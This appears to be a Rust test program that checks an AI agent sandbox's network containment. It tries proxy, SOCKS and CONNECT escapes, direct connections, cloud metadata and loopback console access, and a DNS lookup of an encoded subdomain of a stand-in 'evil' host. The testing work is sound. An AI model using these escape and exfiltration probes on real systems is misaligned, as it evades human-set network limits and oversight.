//! An agent that tries every way out to the network, and prints what came of each on a line of its own. The test judges
//! by what its own servers saw, and by the audit; these lines are for what an agent must not see.
//!
//! Arguments: ports of the test's servers: HTTP in the clear, HTTP in TLS, any bytes.
#![forbid(unsafe_code)]

use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::Duration;

fn main() {
    let ports: Vec<u16> = std::env::args().skip(1).filter_map(|text| text.parse().ok()).collect();
    let [clear, tls, bytes] = ports[..] else { panic!("three ports") };
    say("HTTP_PROXY", Ok(std::env::var("HTTP_PROXY").unwrap_or_default()));
    say(
        "proxied",
        through_proxy(&format!(
            "GET http://nas.example.org:{clear}/proxied HTTP/1.1\r\nHost: nas.example.org:{clear}\r\nConnection: close\r\n\r\n"
        )),
    );
    say("socks", socks("nas.example.org", bytes));
    say("caught", caught("nas.example.org", clear));
    say("ended", ended("api.example.org", tls, "/v1/echo"));
    say("ended other path", ended("api.example.org", tls, "/v2/echo"));
    for (name, target) in [
        ("another host", format!("evil.example.org:{clear}")),
        ("another port", "nas.example.org:22".to_owned()),
        ("the host by its address", format!("10.0.2.2:{clear}")),
        ("metadata", "169.254.169.254:80".to_owned()),
        ("console on loopback", "127.0.0.1:8443".to_owned()),
        ("console on the network", "10.0.2.15:8443".to_owned()),
        ("the appliance by a granted name", "self.example.org:8443".to_owned()),
    ] {
        say(name, through_proxy(&format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")));
    }
    for address in [
        format!("10.0.2.2:{clear}"),
        "10.0.2.15:8443".to_owned(),
        "127.0.0.1:8443".to_owned(),
        "169.254.169.254:80".to_owned(),
    ] {
        say(&format!("direct {address}"), direct(&address));
    }
    use std::net::ToSocketAddrs;
    let looked =
        ("mzxw6ytboi.evil.example.org", 80).to_socket_addrs().map(|found| format!("FOUND {found:?}"));
    say("another name", looked);
    say("the visit is over", Ok(String::new()));
    // For whoever adopts this run.
    loop {
        std::thread::sleep(Duration::from_secs(1));
        let _ = through_proxy(&format!(
            "GET http://nas.example.org:{clear}/again HTTP/1.1\r\nHost: nas.example.org:{clear}\r\nConnection: close\r\n\r\n"
        ));
    }
}

fn say(name: &str, what: io::Result<String>) {
    let what = what.unwrap_or_else(|error| format!("error: {error}"));
    println!("{name}: {}", what.replace('\n', "\\n").replace('\r', ""));
}

fn patient(stream: TcpStream) -> io::Result<TcpStream> {
    stream.set_read_timeout(Some(Duration::from_secs(60)))?;
    Ok(stream)
}

fn proxy() -> io::Result<TcpStream> {
    patient(TcpStream::connect("127.0.0.1:7071")?)
}

fn through_proxy(request: &str) -> io::Result<String> {
    let mut stream = proxy()?;
    stream.write_all(request.as_bytes())?;
    rest(&mut stream)
}

fn rest(stream: &mut impl Read) -> io::Result<String> {
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

/// A caught port answers on loopback too, as the egress, which closes without a word.
fn direct(address: &str) -> io::Result<String> {
    let mut stream = patient(TcpStream::connect(address)?)?;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")?;
    let answer = rest(&mut stream)?;
    Ok(if answer.is_empty() { "closed without a word".to_owned() } else { format!("ANSWERED {answer}") })
}

fn socks(host: &str, port: u16) -> io::Result<String> {
    let mut stream = proxy()?;
    let length = u8::try_from(host.len()).map_err(io::Error::other)?;
    let request =
        [&[5, 1, 0, 5, 1, 0, 3, length][..], host.as_bytes(), &port.to_be_bytes(), b"over socks\n"].concat();
    stream.write_all(&request)?;
    let mut head = [0; 12];
    stream.read_exact(&mut head)?;
    if head[3] != 0 {
        return Ok(format!("refused with {}", head[3]));
    }
    rest(&mut stream)
}

/// As a program that knows no proxy: resolve, connect, talk.
fn caught(host: &str, port: u16) -> io::Result<String> {
    let mut stream = patient(TcpStream::connect((host, port))?)?;
    let from = stream.peer_addr()?;
    write!(stream, "GET /caught HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n")?;
    Ok(format!("{from} {}", rest(&mut stream)?))
}

/// With the authorities that the environment names, over a caught connection.
fn ended(host: &str, port: u16, path: &str) -> io::Result<String> {
    let bundle = std::fs::read(std::env::var("SSL_CERT_FILE").map_err(io::Error::other)?)?;
    let mut roots = RootCertStore::empty();
    roots.add_parsable_certificates(CertificateDer::pem_slice_iter(&bundle).flatten());
    let config = ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .map_err(io::Error::other)?
        .with_root_certificates(roots)
        .with_no_client_auth();
    let name = ServerName::try_from(host.to_owned()).map_err(io::Error::other)?;
    let client = ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)?;
    let mut stream = StreamOwned::new(client, patient(TcpStream::connect((host, port))?)?);
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer mine\r\nConnection: close\r\n\r\n"
    )?;
    let mut answer = Vec::new();
    // The end without a farewell is no matter here: the answer says how long it is.
    let _ = stream.read_to_end(&mut answer);
    Ok(String::from_utf8_lossy(&answer).into_owned())
}
